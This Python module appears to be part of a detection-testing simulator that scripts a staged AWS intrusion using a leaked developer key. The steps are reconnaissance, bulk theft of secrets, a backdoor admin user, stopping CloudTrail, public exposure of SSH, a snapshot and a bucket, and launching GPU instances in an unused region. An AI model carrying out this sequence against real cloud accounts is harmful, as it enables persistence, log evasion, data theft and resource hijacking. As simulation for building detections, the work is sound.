"""An attack: a developer's leaked key is used from elsewhere, to stay, to steal, and not to be seen."""

from __future__ import annotations

import json
from dataclasses import dataclass

from trailwatch.simulate.company import Company
from trailwatch.simulate.stage import Credentials, Seat, Stage

ADDRESS = "203.0.113.66"
AGENT = "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-kali exe/x86_64.kali.2024 prompt/off"
FOREIGN_ACCOUNT = "999988887777"
BACK_DOOR = "aws-support-sync"
_UNUSED_REGION = "ap-southeast-1"
_REGIONS = ("us-east-1", "eu-west-1", "ap-southeast-1")


@dataclass(frozen=True)
class Loot:
    """What the intruder has in the end."""

    back_door: Seat
    admin: Seat
    secrets: int


def break_in(stage: Stage, company: Company) -> Loot:
    """Plays the whole attack, beginning with the developer's key."""
    leaked = Seat("the intruder", company.developer.credentials, ADDRESS, AGENT)
    _look_around(stage, leaked)
    secrets = _steal_secrets(stage, company, leaked)
    back_door = _open_back_door(stage, leaked)
    admin = stage.assume(back_door, company.admin_role, "ops-maintenance")
    _blind(stage, company, admin)
    _expose(stage, company, admin)
    _exploit(stage, company, admin)
    return Loot(back_door, admin, secrets)


def _look_around(stage: Stage, leaked: Seat) -> None:
    stage.do(leaked, "sts", "get_caller_identity")
    for operation in ("list_users", "list_roles", "get_account_summary", "list_account_aliases"):
        stage.do(leaked, "iam", operation)
    stage.do(leaked, "iam", "list_attached_user_policies", UserName="dana")
    stage.do(leaked, "s3", "list_buckets")
    for region in _REGIONS:
        stage.do(leaked, "ec2", "describe_instances", region=region)
        stage.do(leaked, "secretsmanager", "list_secrets", region=region)


def _steal_secrets(stage: Stage, company: Company, leaked: Seat) -> int:
    for name in company.secrets:
        stage.do(leaked, "secretsmanager", "get_secret_value", SecretId=name)
    every = [{"Key": "name", "Values": ["prod/"]}]
    return len(stage.do(leaked, "secretsmanager", "batch_get_secret_value", Filters=every).get("SecretValues", ()))


def _open_back_door(stage: Stage, leaked: Seat) -> Seat:
    stage.do(leaked, "iam", "create_user", UserName=BACK_DOOR)
    stage.do(
        leaked,
        "iam",
        "attach_user_policy",
        UserName=BACK_DOOR,
        PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess",
    )
    key = stage.do(leaked, "iam", "create_access_key", UserName=BACK_DOOR)["AccessKey"]
    stage.do(leaked, "iam", "create_login_profile", UserName=BACK_DOOR, Password="Invented-1234567")  # noqa: S106 the scenario's own
    back_door = Seat("the intruder by the back door", Credentials.of(key), ADDRESS, AGENT)
    stage.sign_in(back_door, BACK_DOOR, mfa=False)
    return back_door


def _blind(stage: Stage, company: Company, admin: Seat) -> None:
    stage.do(admin, "cloudtrail", "describe_trails")
    stage.do(admin, "cloudtrail", "stop_logging", Name=company.trail)


def _expose(stage: Stage, company: Company, admin: Seat) -> None:
    stage.do(
        admin,
        "ec2",
        "authorize_security_group_ingress",
        GroupId=company.security_group,
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )
    snapshot = stage.do(admin, "ec2", "create_snapshot", VolumeId=company.volume)["SnapshotId"]
    stage.do(
        admin,
        "ec2",
        "modify_snapshot_attribute",
        SnapshotId=snapshot,
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[FOREIGN_ACCOUNT],
    )
    everyone = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": "*",
                "Action": "s3:GetObject",
                "Resource": f"arn:aws:s3:::{company.data_bucket}/*",
            }
        ],
    }
    stage.do(admin, "s3", "put_bucket_policy", Bucket=company.data_bucket, Policy=json.dumps(everyone))


def _exploit(stage: Stage, company: Company, admin: Seat) -> None:
    stage.do(
        admin,
        "lambda",
        "add_permission",
        FunctionName=company.function,
        StatementId="sync",
        Action="lambda:InvokeFunction",
        Principal="*",
    )
    image = stage.do(admin, "ec2", "describe_images", region=_UNUSED_REGION, Owners=["amazon"])["Images"][0]
    stage.do(
        admin,
        "ec2",
        "run_instances",
        region=_UNUSED_REGION,
        ImageId=image["ImageId"],
        MinCount=4,
        MaxCount=4,
        InstanceType="p3.16xlarge",
    )
